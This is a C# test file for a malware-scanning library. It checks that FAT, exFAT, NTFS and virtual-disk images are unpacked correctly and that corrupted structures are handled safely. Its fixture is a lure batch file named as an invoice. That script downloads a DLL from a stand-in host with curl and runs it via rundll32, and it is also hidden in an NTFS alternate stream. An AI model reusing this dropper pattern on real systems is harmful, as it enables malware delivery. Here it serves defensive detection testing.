using System.Buffers.Binary;
using System.Text;
using Lurewatch.Files.Archives;
using Lurewatch.Samples.Disks;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Files.Archives;

public sealed class DiskHandlerTests
{
    private static readonly byte[] Script = Encoding.ASCII.GetBytes("@echo off\r\ncurl http://disk.example/a.dll -o %TEMP%\\a.dll\r\nrundll32 %TEMP%\\a.dll,Start\r\n");
    private static readonly byte[] Large = [.. Enumerable.Range(0, 3000).Select(i => (byte)(i * 7))];

    private static DiskItem[] Items() => [new("Rechnung über März 2022.bat", Script), new("Ordner/Unterordner/Bild.dat", Large), new("Ordner/lib.dat", [1, 2, 3], Hidden: true)];

    [Theory]
    [InlineData(12)]
    [InlineData(16)]
    [InlineData(32)]
    public void Files_of_a_FAT_volume_come_out_under_their_long_names(int bits)
    {
        var analysis = Scan(FatWriter.Write(Items(), bits), "a.img");
        Facts(analysis).Volumes.ShouldBe([new ArchiveVolume($"fat{bits}", "INVOICE")]);
        ShouldHoldTheItems(analysis);
    }

    [Fact]
    public void Files_of_an_exFAT_volume_come_out()
    {
        var analysis = Scan(ExFatWriter.Write(Items()), "a.img");
        Facts(analysis).Volumes.ShouldBe([new ArchiveVolume("exfat", "EXDATA")]);
        ShouldHoldTheItems(analysis);
    }

    [Fact]
    public void Files_of_an_NTFS_volume_come_out_and_so_does_a_stream_beside_the_content()
    {
        var analysis = Scan(NtfsWriter.Write([.. Items(), new("notes.txt", [65]), new("notes.txt:run.bat", Script)]), "a.img");
        Facts(analysis).Volumes.ShouldBe([new ArchiveVolume("ntfs", "DATA")]);
        foreach (var item in Items()) analysis.Artifacts.ShouldContain(file => file.Path == "/" + item.Name && file.Bytes.ToArray().SequenceEqual(item.Content));
        analysis.Artifacts.ShouldContain(file => file.Path == "/notes.txt:run.bat" && file.Bytes.ToArray().SequenceEqual(Script));
    }

    [Theory]
    [InlineData("partitioned")]
    [InlineData("fixed")]
    [InlineData("dynamic")]
    [InlineData("vhdx")]
    public void A_volume_is_found_in_every_wrapping(string wrapping)
    {
        var disk = DiskImages.Partitioned(FatWriter.Write(Items()));
        var image = wrapping switch { "fixed" => DiskImages.FixedVhd(disk), "dynamic" => DiskImages.DynamicVhd(disk), "vhdx" => DiskImages.Vhdx(disk), _ => disk };
        var analysis = Scan(image, "a.img");
        Facts(analysis).Format.ShouldBe(wrapping switch { "partitioned" => "disk", "vhdx" => "vhdx", _ => "vhd" });
        ShouldHoldTheItems(analysis);
    }

    [Fact]
    public void An_optical_disc_in_a_virtual_disk_is_read_too() =>
        Scan(DiskImages.FixedVhd(IsoWriter.Write([new("run.bat", Script)])), "a.vhd").Artifacts.ShouldContain(file => file.Name == "run.bat");

    [Fact]
    public void A_chain_of_clusters_that_leads_into_itself_ends_and_is_noted()
    {
        var volume = FatWriter.Write([new("a.bin", Large)], 16);
        BinaryPrimitives.WriteUInt16LittleEndian(volume.AsSpan(512 + (3 * 2)), 2); // the second cluster leads back to the first
        BinaryPrimitives.WriteUInt32LittleEndian(volume.AsSpan(RootOf(volume) + 32 + 28), 0x80000000);
        var analysis = Scan(volume, "a.img");
        Facts(analysis).Problems.ShouldContain(problem => problem.Id == "chain-loop");
        analysis.Artifacts[0].Unopened.ShouldNotBeNull();
    }

    [Fact]
    public void A_folder_that_holds_itself_ends_and_is_noted()
    {
        var volume = FatWriter.Write([new("folder/inner/a.bat", Script)], 16);
        var inner = volume.AsSpan().IndexOf("INNER~"u8);
        var folder = BinaryPrimitives.ReadUInt16LittleEndian(volume.AsSpan(RootOf(volume) + 32 + 26));
        BinaryPrimitives.WriteUInt16LittleEndian(volume.AsSpan(inner + 26), folder);
        Facts(Scan(volume, "a.img")).Problems.ShouldContain(problem => problem.Id == "directory-loop");
    }

    [Fact]
    public void A_declared_size_of_two_gibibytes_yields_what_is_there()
    {
        var volume = FatWriter.Write([new("a.bat", Script)], 16);
        BinaryPrimitives.WriteUInt32LittleEndian(volume.AsSpan(RootOf(volume) + 32 + 28), 0x80000000);
        var analysis = Scan(volume, "a.img");
        analysis.Artifacts[0].Unopened.ShouldBe("damaged");
        analysis.Artifacts[1].Bytes.Length.ShouldBe(512);
        Facts(analysis).Problems.ShouldContain(problem => problem.Id == "content-cut");
    }

    [Fact]
    public void A_virtual_disk_may_declare_what_size_it_likes() =>
        ShouldHoldTheItems(Scan(DiskImages.DynamicVhd(DiskImages.Partitioned(FatWriter.Write(Items())), 1L << 50), "a.vhd"));

    [Fact]
    public void A_file_table_whose_runs_lead_to_one_place_again_and_again_ends()
    {
        var volume = NtfsWriter.Write([new("a.bat", Script)]);
        var runs = volume.AsSpan().IndexOf((ReadOnlySpan<byte>)[0x44, 50, 0, 0, 0, 8]); // the table's only run: 25 records in 50 clusters
        BinaryPrimitives.WriteInt32LittleEndian(volume.AsSpan(runs - 64 + 4), 272);
        for (var i = 0; i < 60; i++) ((ReadOnlySpan<byte>)[0x11, 50, (byte)(i == 0 ? 8 : 0)]).CopyTo(volume.AsSpan(runs + (i * 3)));
        volume.AsSpan(runs + 208, 4).Fill(0xff);
        Scan(volume, "a.img").Artifacts.Count(file => file.Name == "a.bat").ShouldBeInRange(1, 60);
    }

    [Fact]
    public void A_hole_of_an_exbibyte_is_over_the_limit_and_no_more()
    {
        var volume = NtfsWriter.Write([new("a.bin", Large)]);
        var size = volume.AsSpan().IndexOf((ReadOnlySpan<byte>)[0xb8, 0x0b, 0, 0, 0, 0, 0, 0]);
        BinaryPrimitives.WriteInt64LittleEndian(volume.AsSpan(size), 1L << 60);
        ((ReadOnlySpan<byte>)[0x07, 0, 0, 0, 0, 0, 0, 8, 0x07, 0, 0, 0, 0, 0, 0, 8]).CopyTo(volume.AsSpan(size + 16));
        Scan(volume, "a.img").Artifacts[0].Unopened.ShouldBe("limit");
    }

    [Fact]
    public void A_disk_that_holds_no_known_file_system_is_said_to_be_unopened()
    {
        var facts = Scan(DiskImages.FixedVhd(new byte[4096]), "a.vhd");
        facts.Artifacts[0].Unopened.ShouldBe("unsupported");
        Facts(facts).Entries.ShouldBeEmpty();
    }

    [Fact]
    public void Every_cut_and_every_flipped_byte_of_the_structures_is_read_without_a_throw()
    {
        foreach (var image in (byte[][])[FatWriter.Write(Items()), ExFatWriter.Write(Items()), NtfsWriter.Write(Items()), DiskImages.DynamicVhd(FatWriter.Write(Items()))])
        {
            for (var length = 1024; length < Math.Min(image.Length, 40_000); length += 1024) Scan(image[..length], "a.img");
            for (var at = 11; at < 8192 && at < image.Length; at += 13)
            {
                var changed = (byte[])image.Clone();
                changed[at] ^= 0xff;
                Scan(changed, "a.img");
            }
        }
    }

    private static int RootOf(ReadOnlySpan<byte> volume) => 512 + (2 * 512 * BinaryPrimitives.ReadUInt16LittleEndian(volume[22..]));

    private static void ShouldHoldTheItems(Analysis analysis)
    {
        analysis.Artifacts.Select(file => file.Path).ShouldBe(["/", .. Items().Select(item => "/" + item.Name)], ignoreOrder: true);
        foreach (var item in Items()) analysis.Artifacts.Single(file => file.Path == "/" + item.Name).Bytes.ToArray().ShouldBe(item.Content);
        Facts(analysis).Problems.ShouldBeEmpty();
        Facts(analysis).Entries.Single(entry => entry.Hidden).Name.ShouldBe("Ordner/lib.dat");
        analysis.Indicators.ShouldContain(indicator => indicator.Value == "http://disk.example/a.dll");
    }

    private static Analysis Scan(byte[] bytes, string name) => new MailScanner(new ScanOptions { Strict = true }).Scan(bytes, name);

    private static ArchiveFacts Facts(Analysis analysis) => analysis.Artifacts[0].Facts.ShouldBeOfType<ArchiveFacts>();
}
